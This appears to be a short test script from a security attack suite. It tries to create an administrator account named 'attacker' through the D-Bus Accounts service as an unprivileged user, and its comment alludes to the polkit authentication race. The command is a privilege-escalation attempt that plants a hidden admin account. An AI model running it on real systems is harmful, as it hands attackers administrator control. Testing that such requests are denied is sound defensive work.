. "$ATTACKS/lib.sh"
# The request is repeated and broken off until polkit loses track of who asked; here nobody is asked.
as dbus-send nothing -- --system --dest=org.freedesktop.Accounts --type=method_call --print-reply \
  /org/freedesktop/Accounts org.freedesktop.Accounts.CreateUser string:attacker string:attacker int32:1
